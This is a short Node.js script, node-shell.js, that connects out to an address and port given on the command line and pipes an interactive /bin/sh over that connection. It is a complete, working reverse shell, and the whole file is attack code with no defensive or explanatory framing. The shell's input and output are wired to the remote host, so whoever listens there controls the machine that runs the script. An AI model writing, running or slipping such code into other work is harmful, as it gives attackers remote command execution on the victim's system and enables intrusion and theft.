'use strict';
// node-shell.js ADDRESS PORT: a shell whose three descriptors are pipes to a process that has the connection.
const { spawn } = require('node:child_process');
const { connect } = require('node:net');
const connection = connect(Number(process.argv[3]), process.argv[2], () => {
  const shell = spawn('/bin/sh', ['-i']);
  connection.pipe(shell.stdin);
  shell.stdout.pipe(connection);
  shell.stderr.pipe(connection);
  setTimeout(() => console.log('ready'), 500);
});
